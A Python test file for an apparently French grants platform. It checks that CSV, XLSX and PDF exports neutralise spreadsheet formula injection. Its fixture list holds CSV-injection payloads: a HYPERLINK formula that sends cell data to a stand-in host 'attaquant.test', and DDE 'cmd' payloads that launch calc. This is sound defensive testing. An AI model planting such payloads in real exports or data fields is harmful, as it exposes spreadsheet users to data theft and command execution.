"""Every CSV and XLSX the platform hands out, read back from a fixture full of formula
starts: every column present, text cells neutralised, true numbers left as numbers, no
formula anywhere in a workbook; the ranking of a lot whose name holds every character a
sheet title refuses answers 200 in each format."""

# ruff: noqa: F811 (fixtures imported from the apps' conftest files, then requested)

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from conventions.models import Convention, Payment
from core import spreadsheets
from core.spreadsheets import FORMULA_STARTS, csv_bytes, sheet_title, xlsx_bytes
from evaluation import services as evaluation
from evaluation.exports import ranking_table
from evaluation.states import DecisionOutcome
from tests.conventions.conftest import (  # noqa: F401 (fixtures)
    _private_storage,
    authority_siret,
    convention,
    organisation,
    role_groups,
    selected_decision,
    signed,
)
from tests.evaluation.conftest import admitted, evaluators, graded_call, score  # noqa: F401
from tests.factories import as_draft
from tests.pdf import pdf_text

HOSTILE_LOT = "Nord: Isère / [test]?"
FORMULAS = [
    '=HYPERLINK("https://attaquant.test/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
POINTS = {"A1": 4, "A2": 2, "B1": 3, "C1": 4, "C2": 4}


NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def assert_text_is_neutral(value):
    """Text never starts like a formula; a negative number, written as one, is no text."""
    if isinstance(value, str) and value and not NUMBER.fullmatch(value):
        assert not value.startswith(FORMULA_STARTS), repr(value)


def assert_workbook_is_inert(content: bytes) -> list[list]:
    """No formula in any sheet's XML, every text cell a string that starts harmlessly;
    returns the rows of the first sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert_text_is_neutral(cell.value)
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def read_french_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    for row in rows:
        for value in row:
            assert_text_is_neutral(value)
    return rows


# --- The writer itself ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "title"),
    [
        (HOSTILE_LOT, "Nord Isère test"),
        ("a/b\\c?d*e[f]g:h", "a b c d e f g h"),
        ("'Citée'", "Citée"),
        ("Un nom de lot beaucoup trop long pour un onglet", "Un nom de lot beaucoup trop lon"),
        ("[]:*?/\\", "Feuille"),
        ("History", "Historique"),
    ],
)
def test_sheet_titles_are_made_valid(name, title):
    assert sheet_title(name) == title
    assert len(sheet_title(name)) <= 31


def test_sheet_titles_are_unique_without_case():
    taken = set()
    titles = [sheet_title(name, taken) for name in ["Nord", "nord", "NORD", "Sud"]]
    assert titles == ["Nord", "nord (2)", "NORD (3)", "Sud"]
    long = "Un nom de lot beaucoup trop long pour un onglet"
    assert sheet_title(long, taken) == "Un nom de lot beaucoup trop lon"
    assert sheet_title(long, taken) == "Un nom de lot beaucoup trop (2)"


def test_text_is_neutralised_and_true_numbers_stay_numbers():
    rows = [[formula, Decimal("-1500.50"), -3, Decimal("0.5")] for formula in FORMULAS]

    csv_rows = read_french_csv(csv_bytes(["Nom", "Solde", "Écart", "ETP"], rows))
    assert [row[0] for row in csv_rows[1:]] == ["'" + formula for formula in FORMULAS]
    # Numbers are written as numbers, their minus sign included.
    assert {tuple(row[1:]) for row in csv_rows[1:]} == {("-1500,50", "-3", "0,5")}

    workbook = xlsx_bytes([spreadsheets.Sheet("Feuille", ["Nom", "Solde", "Écart", "ETP"], rows)])
    sheet = assert_workbook_is_inert(workbook)
    assert [row[0] for row in sheet[1:]] == ["'" + formula for formula in FORMULAS]
    assert {tuple(row[1:]) for row in sheet[1:]} == {(-1500.5, -3, 0.5)}


def test_control_characters_do_not_break_a_workbook():
    workbook = xlsx_bytes([spreadsheets.Sheet("F", ["Nom"], [["Asso\x07 du\x00 bip"]])])
    assert assert_workbook_is_inert(workbook)[1] == ["Asso du bip"]


# --- The ranking: CSV, XLSX, PDF --------------------------------------------------------


@pytest.fixture
def hostile_ranking(graded_call, instructeur, evaluators):
    """A lot named with every forbidden character, dossiers of organisations named like
    formulas, scored and decided."""
    lot = graded_call.lots.first()
    with as_draft(graded_call):
        lot.name = HOSTILE_LOT
        lot.save()
    dossiers = admitted(graded_call, FORMULAS, by_instructeur=instructeur, lot=lot)
    for dossier in dossiers:
        score(dossier, evaluators[0], by_instructeur=instructeur, points=POINTS)
    evaluation.record_decision(
        dossiers[0],
        lot,
        by=instructeur,
        outcome=DecisionOutcome.SELECTED,
        amount_granted=Decimal("24500"),
        fte_granted=Decimal("0.5"),
    )
    return lot


def _ranking_export(client, lot, fmt):
    response = client.get(reverse("evaluation:ranking_export", args=[lot.call_id, lot.pk, fmt]))
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    return response.getvalue()  # the CSV is streamed


def test_the_ranking_csv_has_every_column_and_inert_text(hostile_ranking, instructeur, client):
    client.force_login(instructeur)
    table = ranking_table(hostile_ranking)

    rows = read_french_csv(_ranking_export(client, hostile_ranking, "csv"))

    assert rows[0] == [str(column) for column in table.columns]
    assert len(rows) == 1 + len(FORMULAS)
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + f for f in FORMULAS)
    selected = next(row for row in rows if row[1] == "'" + FORMULAS[0])
    assert selected[table.columns.index("Montant attribué (€)")] == "24500,00"
    assert selected[table.columns.index("Note retenue (/100)")] == "81,25"


def test_the_ranking_xlsx_has_every_column_and_inert_text(hostile_ranking, instructeur, client):
    client.force_login(instructeur)
    table = ranking_table(hostile_ranking)

    content = _ranking_export(client, hostile_ranking, "xlsx")

    rows = assert_workbook_is_inert(content)
    assert load_workbook(io.BytesIO(content)).sheetnames == ["Nord Isère test"]
    assert rows[0] == [str(column) for column in table.columns]
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + f for f in FORMULAS)
    selected = next(row for row in rows if row[1] == "'" + FORMULAS[0])
    assert selected[table.columns.index("Montant attribué (€)")] == 24500
    assert selected[table.columns.index("Note retenue (/100)")] == 81.25


def test_the_ranking_pdf_shows_the_lot_and_the_names(hostile_ranking, instructeur, client):
    client.force_login(instructeur)

    text = pdf_text(_ranking_export(client, hostile_ranking, "pdf"))

    assert HOSTILE_LOT in text
    assert "+cmd|' /C calc'!A0" in text
    assert "@SUM(A1:A9)" in text


# --- Agreements, payments, open data ----------------------------------------------------


@pytest.fixture
def hostile_agreement(signed):
    Convention.objects.filter(pk=signed.pk).update(beneficiary_name=FORMULAS[0], object=FORMULAS[1])
    # A payment's condition is a choice, not text: nothing hostile can be typed there.
    Payment.objects.filter(convention=signed).update(
        label=FORMULAS[3], accounting_reference=FORMULAS[4]
    )
    signed.refresh_from_db()
    return signed


@pytest.mark.parametrize("what", ["conventions", "versements"])
def test_the_agreement_workbooks_have_every_column_and_inert_text(
    hostile_agreement, instructeur, client, what
):
    client.force_login(instructeur)

    response = client.get(reverse("conventions:export", args=[what]))

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    rows = assert_workbook_is_inert(response.content)
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    if what == "conventions":
        assert len(header) == 16
        assert first["Bénéficiaire"] == "'" + FORMULAS[0]
        assert first["Objet"] == "'" + FORMULAS[1]
        assert first["Montant (€)"] == 24500
    else:
        assert len(header) == 12
        assert {row[3] for row in rows[1:]} == {"'" + FORMULAS[3]}
        assert {row[6] for row in rows[1:]} == {
            "À la signature de la convention",
            "Après validation du bilan final et du compte rendu financier (CERFA n° 15059)",
        }
        assert {row[10] for row in rows[1:]} == {"'" + FORMULAS[4]}
        assert all(isinstance(row[5], int | float) for row in rows[1:])


def test_the_open_data_csv_has_inert_text_and_plain_numbers(hostile_agreement, client):
    response = client.get(reverse("conventions:opendata"))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    for row in rows:
        for value in row:
            assert_text_is_neutral(value)
    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert len(header) == 16
    assert row["nomBeneficiaire"] == "'" + FORMULAS[0]
    assert row["objet"] == "'" + FORMULAS[1]
    assert row["montant"] == "24500.00"
    # Public data: cacheable, unlike staff's exports.
    assert "no-store" not in response.get("Cache-Control", "")


def test_a_signed_agreement_of_a_hostile_lot_exports(signed, instructeur, client):
    lot = signed.lot
    type(lot).objects.filter(pk=lot.pk).update(name=HOSTILE_LOT)
    client.force_login(instructeur)

    response = client.get(reverse("conventions:export", args=["conventions"]))

    rows = assert_workbook_is_inert(response.content)
    assert rows[1][3] == HOSTILE_LOT
